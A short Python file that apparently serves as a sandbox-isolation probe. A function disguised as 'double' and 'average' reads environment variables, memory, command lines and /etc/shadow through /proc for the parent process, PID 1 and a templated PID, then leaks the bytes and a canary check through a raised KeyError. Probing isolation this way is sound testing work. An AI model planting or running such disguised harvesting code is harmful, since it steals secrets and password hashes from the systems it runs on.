"""The memory, words and environment of the processes around it."""

import os

FILES = ["environ", "cmdline", "mem", "maps", "fd/0", "root/etc/shadow"]


def double(x):
    found = []
    for process in (os.getppid(), 1, int("@PID@")):
        for file in FILES:
            try:
                with open(f"/proc/{process}/{file}", "rb") as opened:
                    found.append(opened.read(200))
            except OSError:
                continue
    raise KeyError(b"CANARY-" in b"".join(found), found, "LEAKED" if found else "")


average = double
